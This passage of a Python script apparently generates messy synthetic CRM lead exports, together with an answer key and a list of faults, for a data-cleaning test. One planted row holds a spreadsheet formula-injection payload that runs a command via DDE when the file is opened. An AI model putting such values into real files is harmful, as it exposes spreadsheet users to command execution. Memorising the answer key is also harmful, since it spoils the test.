        row.update(title="@SUM(1+9)*cmd|' /C calc'!A0", company="+1 " + row["person"].company.core)
    elif kind == "long_note":
        row["message"] = "\n\n".join(compose(row["lang"]) for _ in range(70))


def fits(kind, row):
    if row["full"] or row["person"].flags or not row["company"].strip():
        return False
    odd = any(ch in row["last"] for ch in "äöüßéñóá") and not row["last"].isupper()
    return odd if kind == "mojibake" else bool(row["email"]) if kind in ("no_name", "no_one", "emoji", "bad_email") else True


def build_rows():
    files, lead_rows = list(EXPORTS), []
    for person in PEOPLE:
        size = SIZE_OF.get(id(person), 1)
        weights = [EXPORTS[f][1] * EXPORTS[f][4].get(person.company.country, 1) for f in files]
        used = []
        for turn in range(size):
            free = [w * (0.12 if f in used else 1) for f, w in zip(files, weights)]
            used.append(pick(files, free))
            row = make_row(person, used[-1], full=size > 1)
            if size > 1:
                for name, p in (("mobile", 0.35), ("street", 0.3), ("website", 0.5), ("zip", 0.2), ("title", 0.2), ("salutation", 0.5), ("phone", 0.15)):
                    row[name] = "" if chance(p) else row[name]
                row = distort(row) if turn else row
            lead_rows.append(row)
            if row.get("moved"):  # something must still tell that it is one person
                lead_rows[-1 - turn]["mobile"] = person.mobile
    for row in lead_rows:
        row["id"] = make_id(row["system"], row["created"])
    return lead_rows


def write_exports(lead_rows):
    shapes = {"salesforce_leads.csv": dict(eol="\r\n", quote_all=True), "dynamics365_leads.csv": dict(delimiter=";", eol="\r\n"), "act_contacts.txt": dict(delimiter="\t", eol="\r\n")}
    truth, broken = [], []
    for file, columns in COLUMNS.items():
        rows = [r for r in lead_rows if r["file"] == file]
        rows.sort(key=lambda r: plain(r["company"]).lower() if r["system"] == "act" else r["created"], reverse=file.startswith("hubspot"))
        plan = PLAN[file].split()
        spots = {"trailer": len(rows) - 1}
        for kind in plan:
            if kind == "trailer":
                continue
            spots[kind] = pick([i for i, r in enumerate(rows) if fits(kind, r) and i not in spots.values()])
        at = {index: kind for kind, index in spots.items() if kind in plan}
        if file.startswith("dynamics"):  # links that lead nowhere
            rows[40]["account"], rows[40]["contact"] = "A-99999", ""
        shape, lines = shapes.get(file, {}), []
        encoding = {"dynamics365_leads.csv": "utf-8-sig", "act_contacts.txt": "cp1252"}.get(file, "utf-8")

        def put(cells, kind=None, number=""):
            line = 1 + sum(text.count("\n") for text in lines)
            lines.append(record([to_1252(c) for c in cells] if encoding == "cp1252" else cells, **shape) if cells else shape.get("eol", "\n"))
            if kind:
                broken.append([file, line, number, kind, *FAULTS[kind]])

        put(list(columns))
        for index, row in enumerate(rows):
            kind = at.get(index)
            if kind not in (None, "trailer", "blank", "header"):
                spoil(kind, row)
            cells, extra = finish(row), None
            if kind in ("blank", "header"):
                put(list(columns) if kind == "header" else [], kind)
            elif kind == "short":
                extra, cells = kind, cells[:len(cells) - pick([5, 7, 9])]
            elif kind == "long":
                extra, cells = kind, cells + ["see attachment", "2"]
            elif kind == "long_empty":
                extra, cells = kind, cells + ["", "", ""]
            elif kind != "trailer":
                extra = kind
            put(cells, extra, row["id"])
            row["usable"] = kind not in ("long", "no_name", "no_one")
            if row["usable"]:
                truth.append([row["id"], row["person"].cluster, row["system"]])
            if kind == "trailer":
                put(["--- end of report ---"] if file.startswith("sales") else ["Total", "", "", "", f"{len(rows)} records"], kind)
        (HERE / file).write_bytes("".join(lines).encode(encoding))
    write("truth.csv", ["id", "cluster", "source"], truth)
    write("broken_rows.csv", ["file", "line", "id", "fault", "what", "expected"], broken)


def to_1252(text):
    try:
        text.encode("cp1252")
        return text
    except UnicodeEncodeError:
        return plain(text).encode("cp1252", "replace").decode("cp1252")


ANSWERS = ("Re:", "RE", "AW", "R:", "WG", "Question", "Rück", "Consulta", "Domanda", "Въпрос", "Thanks", "Forward", "Doc", "Listino", "Ценова", "Termin", "Unter", "La Sua", "Ihr", "Su", "Вашето", "Votre")


def write_activities(lead_rows):
    rows, usable = [], [r for r in lead_rows if r["usable"]]
    weights = [min(14, rng.paretovariate(1.1)) for _ in usable]
    while len(rows) < 905:
        lead = pick(usable, weights)
        created = lead["created"]
        for fmt in ("%Y-%m-%d %H:%M", "%m/%d/%Y", "%d.%m.%Y %H:%M", "%d/%m/%Y"):
            try:
                created = datetime.strptime(created, fmt)
                break
            except (ValueError, TypeError):
                continue
        lang = lead["lang"] if chance(0.7) else pick(["en", "en", "de"])
        city = lead["city"].strip() or "Wien"
        kind = pick(["email", "phone_log", "appointment", "task", "note"], [36, 27, 9, 11, 17])
        subject = compose(lang, {"email": "email", "appointment": "meeting", "task": "task"}.get(kind, "task"), city) if kind != "phone_log" else pick(["", "", "Call", "Tel.", "Callback"])
        text = {"email": lambda: compose(lang, None, city) if chance(0.85) and subject.startswith(ANSWERS) else "", "phone_log": lambda: compose(lang, "call", city), "task": lambda: "",
                "appointment": lambda: compose(lang, "call", city) if chance(0.4) else "", "note": lambda: compose(lang, "call", city) + ("\n" + compose(lang, "task", city) if chance(0.4) else "")}[kind]()
        at = moment(max(created, datetime(2025, 6, 1)), TODAY + timedelta(days=14) if kind in ("appointment", "task") and chance(0.2) else TODAY, 1.6)
        by_mail = chance(0.2) and "@" in lead["email"]
        rows.append(["" if by_mail else lead["id"], lead["email"].strip() if by_mail or chance(0.3) else "", kind, f"{max(at, created):%Y-%m-%d %H:%M}", subject if kind != "note" or chance(0.3) else "",
                     text, lead["owner"] if lead["owner"] and chance(0.8) else pick(list(OWNERS))])
    for n in (17, 230, 611):  # of leads that no export has any more
        rows[n][0], rows[n][1] = make_id("salesforce", TODAY), ""
    rows.sort(key=lambda r: r[3])
    write("activities.csv", ["lead_id", "email", "activity", "at", "subject", "text", "author"], rows)


if __name__ == "__main__":
    crm_tables()
    LEADS = build_rows()
    write_exports(LEADS)
    write_activities(LEADS)
